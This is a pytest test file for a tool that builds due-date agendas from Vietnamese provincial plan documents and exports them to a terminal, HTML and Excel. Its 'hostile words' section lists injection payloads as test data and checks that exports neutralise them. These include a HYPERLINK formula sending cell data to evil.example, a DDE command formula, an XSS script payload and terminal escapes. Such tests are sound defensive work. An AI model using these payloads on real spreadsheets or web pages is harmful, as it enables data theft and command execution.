"""The agenda: what is due when and by whom; hostile words on the page and in the workbook; the command."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, timedelta
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from docparse import agenda, archive
from docparse.agenda.rows import WHEN, Agenda
from docparse.calendar.model import ALL, Asked, Dues, Entry
from docparse.calendar.wanted import of_documents
from docparse.cli import main
from docparse.holdings import each
from tests.samples import letter, parsed

CORPUS = Path(__file__).parent.parent / "corpus"
ON = date(2018, 10, 1)


def of(*lines: str, on: date = ON, asked: Asked = ALL, **parts: str) -> Agenda:
    """The agenda of a sample plan with some sentences."""
    document = parsed(*(f"{n}. {line}." for n, line in enumerate(lines, 1)), **parts)
    return agenda.of_dues(of_documents([("plan.txt", document)], asked), on=on, asked=asked)


def entry(day: date = ON) -> Entry:
    """An entry that is due on a day."""
    return _entry().model_copy(update={"first": day, "last": day})


@lru_cache
def _entry() -> Entry:
    document = parsed("1. Ban Tổ chức Tỉnh ủy gửi báo cáo vào ngày 20/10/2018.")
    [found] = of_documents([("plan.txt", document)]).entries
    return found


@pytest.mark.parametrize(
    ("day", "when", "left"),
    [
        ("30/9/2018", "overdue", -1),
        ("01/10/2018", "month", 0),
        ("31/10/2018", "month", 30),
        ("01/11/2018", "quarter", 31),
        ("31/3/2019", "quarter", 181),
        ("01/4/2019", "later", 182),
    ],
)
def test_when_it_is_due(day: str, when: str, left: int) -> None:
    [row] = of(f"Ban Tổ chức Tỉnh ủy gửi báo cáo vào ngày {day}").rows
    assert (row.when, row.left) == (when, left)


@settings(deadline=None)
@given(on=st.dates(date(1945, 1, 1), date(2100, 1, 1)), days=st.integers(-900, 900))
def test_the_times_follow_each_other(on: date, days: int) -> None:
    dues = Dues(tuple(entry(on + timedelta(n)) for n in sorted((0, days))), ())
    found = agenda.of_dues(dues, on=on)
    assert on <= found.month < found.quarter
    assert (found.month + timedelta(1)).day == (found.quarter + timedelta(1)).day == 1
    assert found.quarter.month % 3 == 0
    assert timedelta(89) < found.quarter - on < timedelta(185)
    orders = [WHEN.index(row.when) for row in found.rows]
    assert orders == sorted(orders)
    for row in found.rows:
        due = (row.day >= on) + (row.day > found.month) + (row.day > found.quarter)
        assert WHEN.index(row.when) == due


def test_what_recurs_stands_with_its_next_time() -> None:
    line = "Ban Tổ chức Tỉnh ủy báo cáo Tỉnh ủy vào ngày 15/11 hằng năm"
    [row] = of(line).rows
    assert (row.when, row.day) == ("quarter", date(2018, 11, 15))
    [row] = of(line, asked=Asked(since=date(2020, 1, 1))).rows
    assert row.day == date(2020, 11, 15)
    ended = of(line, on=date(2022, 1, 1), title=["nâng cao chất lượng sinh hoạt chi bộ giai đoạn 2018 - 2020"])
    assert [(r.when, r.day) for r in ended.rows] == [("overdue", date(2020, 11, 15))]


def test_a_start_that_is_past_is_not_overdue() -> None:
    line = "Ban Tổ chức Tỉnh ủy thực hiện quy chế từ ngày 01/7/2018"
    assert of(line).rows == ()
    assert [row.when for row in of(line, on=date(2018, 6, 30)).rows] == ["quarter"]


def test_bodies_stand_together_and_the_most_urgent_first() -> None:
    found = of(
        "Ban Dân vận Tỉnh uỷ gửi báo cáo trước ngày 21/10/2018",
        "Văn phòng Tỉnh ủy gửi báo cáo trước ngày 11/10/2018",
        "Ban Dân vận Tỉnh ủy rà soát quy chế trước ngày 06/10/2018",
    )
    [(first, some), (second, _others)] = found.of("month")
    assert (first, second) == ("Ban Dân vận Tỉnh ủy", "Văn phòng Tỉnh ủy")
    assert [(row.what, row.day.day) for row in some] == [
        ("rà soát quy chế (45-KH/TU)", 5),
        ("gửi báo cáo (45-KH/TU)", 20),
    ]


def test_a_body_that_is_asked_for_is_named_itself() -> None:
    line = "Ban Thường vụ các huyện, thị, thành ủy gửi báo cáo về Ban Thường vụ Tỉnh ủy trước ngày 20/10/2018"
    [row] = of(line, asked=Asked(body="Huyện ủy Hàm Thuận Bắc")).rows
    assert (row.body, row.what) == ("Huyện ủy Hàm Thuận Bắc", "gửi báo cáo (45-KH/TU)")
    [row] = of(line, asked=Asked(body="Ban Thường vụ Tỉnh ủy", roles=("report_to",))).rows
    assert row.body == "Ban Thường vụ các huyện, thị, thành ủy"


def test_what_has_no_day_is_listed_apart() -> None:
    found = of("Ban Tổ chức Tỉnh ủy gửi báo cáo trong 05 ngày kể từ ngày có kết quả kiểm tra")
    assert (found.rows, len(found.apart)) == ((), 1)


# --- hostile words ------------------------------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    '"><script>alert(1)</script><img src=x onerror=alert(2)>',
    "{{ 7*7 }}{% raw %}",
    "Báo cáo\x00\x08\x1b[31m\x0b cuối năm",
    "x" * 40_000,
)


def hostile(words: str) -> Agenda:
    """An agenda with some words wherever a document's words stand."""
    found = entry()
    paper = found.duty.paper.model_copy(
        update={"symbol": words, "path": words, "issuer": words, "issued": "2018", "title": words}
    )
    parties = tuple(p.model_copy(update={"name": words}) for p in found.duty.lead)
    changed = {"title": words, "time": words, "sentence": words, "section": (words,), "lead": parties, "paper": paper}
    duty = found.duty.model_copy(update=changed)
    every = tuple(found.model_copy(update={"duty": duty, "uid": str(n)}) for n in range(3))
    apart = of("Ban Tổ chức Tỉnh ủy gửi báo cáo trong 05 ngày kể từ ngày có kết quả kiểm tra").apart[0]
    return agenda.of_dues(Dues(every, (apart.model_copy(update={"duty": duty}),)), on=ON)


class Tags(HTMLParser):
    """The tags, attributes and words of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, set[str]] = {}
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, set()).add(value or "")

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.parametrize("words", HOSTILE)
def test_words_of_a_document_are_words_on_the_page(words: str) -> None:
    page = agenda.page(hostile(words))
    found = Tags(page)
    assert not found.tags & {"script", "img", "link", "iframe", "a", "object", "form"}
    assert found.attributes.keys() <= {"lang", "charset", "name", "content", "http-equiv", "class", "rowspan"}
    assert "default-src 'none'" in page
    assert not re.search(r"url\(|@import", page.partition("<body>")[0])
    if "\x00" not in words:
        assert words in found.words


@pytest.mark.parametrize("words", HOSTILE)
def test_words_of_a_document_are_text_in_the_workbook(words: str) -> None:
    data = agenda.sheet(hostile(words))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for page in book for row in page.iter_rows(min_row=2) for cell in row if cell.value not in (None, "")]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    text = [cell for cell in cells if cell.data_type == "s"]
    kept = re.sub("[\x00\x08\x1b\x0b]", "\ufffd", words)[:32_767]
    alike = [cell for cell in text if cell.value == kept]
    assert len(alike) > 20
    assert all(cell.quotePrefix == (words[0] in "=+-@\t") for cell in alike)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        inside = {name: parts.read(name).decode() for name in parts.namelist()}
    assert not any(re.search(r"<f[ >]|<hyperlink", text) for text in inside.values())
    assert not any("external" in name.lower() or "vba" in name.lower() for name in inside)


@pytest.mark.parametrize("words", HOSTILE[:-1])
def test_words_of_a_document_move_no_cursor(words: str) -> None:
    from docparse.agenda.terminal import show

    out = io.StringIO()
    show(hostile(words), out)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", out.getvalue())


def test_the_workbook_has_days_as_days() -> None:
    found = of("Ban Tổ chức Tỉnh ủy gửi báo cáo trước ngày 20/10/2018")
    [page, apart] = openpyxl.load_workbook(io.BytesIO(agenda.sheet(found)))
    head, row = ([cell.value for cell in row] for row in page.iter_rows())
    cells = dict(zip(head, row, strict=True))
    assert (cells["due"].date(), cells["days left"]) == (date(2018, 10, 19), 18)
    assert (cells["who"], cells["what"]) == ("Ban Tổ chức Tỉnh ủy", "gửi báo cáo (45-KH/TU)")
    assert cells["date of the document"].date() == date(2018, 3, 12)
    assert page.auto_filter.ref.endswith("2")
    assert (page["B2"].number_format, apart.max_row) == ("dd/mm/yyyy", 1)


# --- the command --------------------------------------------------------------------------------------------------


def run(*words: object) -> int:
    return main(["agenda", *map(str, words)])


def test_the_agenda_on_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(CORPUS / "ke-hoach-so-ket-2018.docx", "--on", "1/10/2018", "--lang", "vi") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "Việc đến hạn, tính từ ngày 01/10/2018"
    headings = [line.strip() for line in lines if line.startswith(("Đã quá hạn", "Trong tháng", "Đến hết", "Về sau"))]
    assert headings == [
        "Đã quá hạn, nếu chưa làm xong",
        "Trong tháng này, đến 31/10/2018",
        "Đến hết quý sau, 31/03/2019",
    ]


def test_an_archive_and_its_files_give_the_same(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = CORPUS / "ke-hoach-so-ket-2018.txt"
    assert {step.event for step in archive.import_files(tmp_path / "a.db", [source])} == {"parsed"}
    asked = ("--on", "2018-10-01", "--body", "Ban Dân vận Tỉnh ủy")
    run("--archive", tmp_path / "a.db", *asked)
    one = capsys.readouterr().out
    run(source, *asked)
    assert capsys.readouterr().out == one
    assert "Ban Dân vận Tỉnh ủy: What is due" in one


def test_secret_documents_are_left_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "plan.txt"
    source.write_text("MẬT\n" + letter("1. Ban Tổ chức Tỉnh ủy gửi báo cáo trước ngày 20/10/2018."), "utf-8")
    out = [tmp_path / "a.html", tmp_path / "a.xlsx"]
    assert run(source, "--on", "2018-10-01", "--html", out[0], "--xlsx", out[1]) == 0
    assert "secret" in capsys.readouterr().err
    assert "báo cáo" not in out[0].read_text("utf-8")
    assert openpyxl.load_workbook(out[1]).worksheets[0].max_row == 1
    run(source, "--on", "2018-10-01", "--allow-secret", "--html", out[0])
    assert "báo cáo" in out[0].read_text("utf-8")


def test_files_are_written_over_their_like_only(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source, book = CORPUS / "ke-hoach-so-ket-2018.txt", tmp_path / "a.xlsx"
    for _ in range(2):
        assert run(source, "--on", "2018-10-01", "--xlsx", book) == 0
    assert capsys.readouterr().out == f"{book}\n" * 2
    for words in (("--xlsx", tmp_path / "a.db"), ("--on", "2018-10"), ("--on", "31/2/2018")):
        with pytest.raises(SystemExit):
            run(source, *words)
    assert "must be a day" in capsys.readouterr().err
    for words, said in (
        (("--from", "2019", "--to", "2018"), "--from is later than --to"),
        (("--html", book, "--xlsx", book), "name the same file"),
    ):
        before = book.read_bytes()
        with pytest.raises(SystemExit):
            run(source, *words)
        assert said in capsys.readouterr().err
        assert book.read_bytes() == before


def test_every_duty_of_real_plans_stands_there_once(shared: Path) -> None:
    held = each([shared / "gold" / "text"])
    dues = of_documents((one.name, one.document) for one in held if one.document)
    found = agenda.of_dues(dues, on=date(2014, 8, 1))
    uids = [row.entry.uid for row in found.rows]
    assert len(set(uids)) == len(uids) > 20
    left_out = [e for e in dues.entries if e.uid not in uids]
    assert {e.duty.relation for e in left_out} <= {"from"}
